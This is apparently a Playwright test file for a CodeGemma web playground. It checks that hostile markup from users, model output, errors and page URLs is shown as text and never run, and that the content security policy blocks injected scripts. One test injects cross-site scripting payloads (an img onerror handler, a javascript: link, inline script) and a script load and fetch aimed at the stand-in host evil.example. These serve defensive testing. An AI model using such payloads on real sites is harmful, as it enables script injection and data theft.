"""Text from a person or a model is never executed."""

from dataclasses import replace
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from codegemma_ui.errors import EngineError
from tests.browser.hostile import HOSTILE
from tests.browser.playground import OpenPage, Playground, Scripted


@pytest.mark.parametrize("source", ["typed", "written"])
def test_markup_is_shown_and_never_run(
    source: str, playground: Playground, scripted: Scripted
) -> None:
    page = playground.page
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    if source == "typed":
        playground.write("before", HOSTILE)
        playground.write("after", HOSTILE)
        page.locator("#max-length input[type=number]").fill("512")
        page.locator("#max-length input[type=number]").press("Tab")
    else:
        scripted.client.middle = HOSTILE
        scripted.client.pause_s = 0.001
        playground.write("before", "say ")
    playground.press_complete_in("before")
    playground.wait_until_done()
    middle = scripted.client.middle
    assert playground.text("middle") == middle
    expected = HOSTILE + middle + HOSTILE if source == "typed" else "say " + middle
    assert playground.pane("program") == expected
    assert playground.pane("raw-output") == middle + "<|file_separator|>"
    raw_prompt = playground.pane("raw-prompt")
    assert raw_prompt.count("${alert(1)}") == (2 if source == "typed" else 0)
    assert page.evaluate("window.ran") is None
    assert page.locator("#panes img, #panes script, #panes svg[onload]").count() == 0


def test_no_word_of_an_error_or_of_the_status_is_markup(
    playground: Playground, scripted: Scripted
) -> None:
    page = playground.page
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    scripted.client.failure = EngineError(HOSTILE, HOSTILE, code="made_up")
    scripted.client.be(note=HOSTILE, summary=HOSTILE, device=HOSTILE)
    scripted.client.now = replace(
        scripted.client.now, error={"code": "x", "message": HOSTILE, "hint": HOSTILE}
    )
    playground.write("before", "say ")
    playground.press_complete()
    expect(playground.answer).to_contain_text(HOSTILE.split("<")[0])
    expect(page.locator("#notices")).to_contain_text(HOSTILE.split("<")[0])
    page.locator("#summary-fold button").first.click()
    expect(page.locator("#summary pre")).to_have_text(HOSTILE)
    assert page.evaluate("window.ran") is None
    shown = "#status, #notices, #outcome, #answer, #summary, #caption"
    marked = ", ".join(f"{one} :is(img, script, svg)" for one in shown.split(", "))
    assert page.locator(marked).count() == 0


def test_the_address_of_the_page_is_no_way_in(scripted: Scripted, open_page: OpenPage) -> None:
    opened = open_page(scripted.url, f"?lang={quote(HOSTILE)}&x={quote(HOSTILE)}#{quote(HOSTILE)}")
    assert opened.page.evaluate("window.ran") is None


def test_markup_that_slipped_in_would_still_run_nothing(playground: Playground) -> None:
    """The content security policy blocks it even if escaping failed."""
    page = playground.page
    page.evaluate(
        """() => {
            window.refused = [];
            document.addEventListener("securitypolicyviolation",
                (event) => window.refused.push(event.effectiveDirective));
            const hole = document.createElement("div");
            document.body.append(hole);
            hole.innerHTML = "<img src=x onerror='window.ran=1'><a href='javascript:window.ran=1'>x</a>";
            hole.querySelector("a").click();
            const script = document.createElement("script");
            script.textContent = "window.ran=1";
            document.head.append(script);
            const other = document.createElement("script");
            other.src = "https://evil.example/x.js";
            document.head.append(other);
            return fetch("https://evil.example/").catch(() => null);
        }"""
    )
    page.wait_for_function("window.refused.length >= 5")
    assert page.evaluate("window.ran") is None
    refused = set(page.evaluate("window.refused"))
    assert refused == {"script-src-attr", "script-src-elem", "connect-src"}
    playground.strangers.clear()  # requested, and blocked before anything was sent


def test_the_page_itself_needs_nothing_that_its_policy_refuses(
    playground: Playground, open_page: OpenPage, scripted: Scripted
) -> None:
    said: list[str] = []
    playground.page.on("console", lambda message: said.append(message.text))
    playground.page.reload()
    playground.write("before", "import ")
    playground.press_complete()
    playground.wait_until_done()
    playground.pane("raw-prompt")
    playground.page.locator("#language-choice label").last.click()
    playground.page.locator("#theme").click()
    assert [each for each in said if "Content Security Policy" in each] == []


def test_only_real_control_tokens_are_marked(playground: Playground) -> None:
    playground.write("before", "a = '<|fim_middle|>'")
    playground.press_complete()
    playground.wait_until_done()
    prompt = playground.pane("raw-prompt")
    assert prompt == "<|fim_prefix|>a = '<|fim_middle|>'<|fim_suffix|><|fim_middle|>"
    marked = playground.page.locator("#raw-prompt .role.control").all_inner_texts()
    assert marked == ["<|fim_prefix|>", "<|fim_suffix|>", "<|fim_middle|>"]
    playground.open_tab("raw-output")
    marked = playground.page.locator("#raw-output .role.control").all_inner_texts()
    assert marked == ["<|file_separator|>"]
